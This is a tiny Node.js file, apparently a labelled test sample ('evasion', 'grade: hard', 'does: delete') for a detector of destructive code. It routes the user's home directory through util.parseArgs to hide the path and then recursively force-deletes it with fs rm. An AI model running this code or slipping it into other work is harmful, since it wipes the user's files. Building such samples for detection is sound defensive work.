// evasion: util.parseArgs given a literal argv with the home; parseArgs(...).values.dir read at once
// grade: hard; does: delete
'use strict';
const { rm } = require('fs/promises');
const { homedir } = require('os');
const { parseArgs } = require('util');

const dir = parseArgs({ args: ['--dir', homedir()], options: { dir: { type: 'string' } } }).values.dir;
rm(dir, { recursive: true, force: true });
